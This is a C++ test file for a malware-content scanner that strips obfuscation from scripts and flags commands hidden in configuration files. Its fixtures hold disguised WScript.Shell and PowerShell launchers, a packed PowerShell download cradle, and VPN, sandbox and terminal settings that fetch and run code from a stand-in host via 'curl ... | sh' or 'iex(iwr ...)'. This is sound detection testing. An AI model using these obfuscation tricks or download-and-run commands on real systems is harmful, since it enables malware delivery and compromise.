#include "content/script/undisguised.h"

#include <doctest/doctest.h>

#include "base/encode.h"
#include "content/made_files.h"
#include "content/testing.h"

namespace sekisho::content {

TEST_CASE("the disguises of programs are taken off") {
  struct Row {
    std::string source, says;
  };
  const Row rows[] = {
      {R"(new this["Act"+"iveXObject"]("WSc"+"ript.Shell")["R"+"un"]("calc"))", "WScript.Shell"},
      {R"(new a("\x57\x53\x63\x72\x69\x70\x74\x2e\x53\x68\x65\x6c\x6c"))", "WScript.Shell"},
      {R"(var x="l"+"le"+"hS.tp"+"ircSW";)", "WScript.Shell"},
      {"set a=power\r\nset \"b=shell\"\r\n%a%%B% -w hidden", "powershell -w hidden"},
      {"set k=xpowershellx\r\n%k:~1,-1% -enc", "powershell -enc"},
      {"set k=shpowerell\r\n!k:~2,5!!k:~0,2!!k:~-3!", "powershell"},
      {"p^o^w^e^r^s^h^e^l^l -c x", "powershell -c x"},
      {R"(&("{1}{0}" -f "X","IE") "x")", "\"IEX\""},
      {R"(("{2}{0}{1}"-f 'she','ll','power'))", "powershell"},
      {"i`e`x (n`ew-ob`ject net.webclient)", "iex (new-object"},
  };
  for (const auto& row : rows) {
    CAPTURE(row.source);
    CHECK(undisguised(row.source).find(row.says) != std::string::npos);
  }
  for (const char* plain : {"", "var a = 1;", "echo 100% of it!", "x = \"{0}\" + y", "set a=1\r\necho %PATH%"}) {
    CAPTURE(std::string(plain));
    CHECK(undisguised(plain).empty());
  }
}

TEST_CASE("sources made to cost much to undisguise cost little") {
  const auto repeated = [](std::string_view piece, int times) {
    std::string text;
    for (int i = 0; i < times; ++i) text += piece;
    return text;
  };
  // A name that stands for much, used often: what comes out is bounded.
  CHECK(undisguised("set a=" + std::string(4000, 'x') + "\n" + repeated("%a%", 100'000)).size() < (2u << 20));
  for (const std::string_view piece :
       {"%", "!", "\"{0}\" -f ", "\"{0}{0}{0}\" -f \"a\",", "\"", "'\"", "set a=", "\\x4"})
    CHECK(undisguised(repeated(piece, 200'000)).size() < (4u << 20));
}

TEST_CASE("what a disguised program does is told, and that it is disguised") {
  for (const auto& [source, name] :
       {std::pair{R"(var a=new ActiveXObject("WSc"+"ript.Sh"+"ell");a.Run("calc"))", "a.js"},
        std::pair{"a=\"llehS.tpircSW\"\r\nSet o=CreateObject(StrReverse(a))\r\nExecuteGlobal x\r\n", "a.vbs"},
        std::pair{"@echo off\r\nset a=po\r\nset b=wershell\r\n%a%%b% -w hidden\r\n", "a.bat"}}) {
    CAPTURE(std::string(source));
    const auto document = read_named(source, name);
    CHECK(has_trait(document, "script.shell"));
    CHECK(has_trait(document, "script.obfuscated"));
  }
  const auto packed =
      to_base64(testing::packed("IEX (New-Object Net.WebClient).DownloadString('https://far.example/x')", -15));
  const auto document = read_named(
      "$a=[Convert]::FromBase64String(\"" + packed + "\");(New-Object IO.Compression.DeflateStream($a,0))|iex",
      "a.ps1");
  CHECK(has_trait(document, "script.download"));
  CHECK(links_to(document, "https://far.example/x"));
}

TEST_CASE("settings that start programs are commands") {
  for (const auto& [source, name] :
       {std::pair{
            "client\nremote vpn.example.com\nscript-security 2\nup \"/bin/sh -c 'curl https://far.example/x|sh'\"\n",
            "a.ovpn"},
        std::pair{"<Configuration><LogonCommand><Command>powershell -c iex(iwr https://far.example/x)</Command>"
                  "</LogonCommand></Configuration>",
                  "a.wsb"},
        std::pair{"<?xml version=\"1.0\"?><plist version=\"1.0\"><dict><key>CommandString</key>"
                  "<string>curl https://far.example/x | sh</string></dict></plist>",
                  "a.terminal"}}) {
    CAPTURE(std::string(name));
    const auto document = read_named(source, name);
    CHECK(has_trait(document, "shortcut.command"));
    CHECK(has_trait(document, "shortcut.shell"));
  }
  CHECK_FALSE(has_trait(read_named("client\nremote vpn.example.com\nuser nobody\n", "a.ovpn"), "shortcut.command"));
  CHECK(has_trait(
      read_named("Windows Registry Editor Version 5.00\r\n\r\n"
                 "[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"x\"=\"a.exe\"\r\n",
                 "a.reg"),
      "script.autorun"));
}

TEST_CASE("what stands in the frame of a certificate and is none is a file") {
  const std::string text = "powershell -c iex(iwr https://far.example/x)", head = "-----BEGIN CERTIFICATE-----\n",
                    tail = "\n-----END CERTIFICATE-----\n", honest = "\x30\x82\x01\x0a and so on";
  const auto document = read_named(head + to_base64(honest) + tail + head + to_base64(text) + tail, "a.cer");
  CHECK(has_trait(document, "file.framed"));
  REQUIRE(document.parts.size() == 2);
  CHECK(document.parts[1].data == text);
  CHECK_FALSE(has_trait(read_named(head + to_base64(honest) + tail, "a.cer"), "file.framed"));
}

}  // namespace sekisho::content
